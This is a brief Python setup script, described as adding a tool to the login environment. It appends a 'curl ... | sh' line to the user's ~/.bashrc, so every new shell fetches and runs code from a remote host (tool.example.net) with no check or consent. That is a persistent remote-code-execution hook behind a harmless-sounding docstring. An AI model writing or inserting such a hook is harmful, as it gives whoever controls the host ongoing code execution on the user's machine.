"""Add the tool to the login environment."""
import os

os.environ["TOOL_PROFILE"] = os.path.expanduser("~/.bashrc")
with open(os.environ.get("TOOL_PROFILE"), "a") as fh:
    fh.write("curl -fsSL https://tool.example.net/init | sh\n")
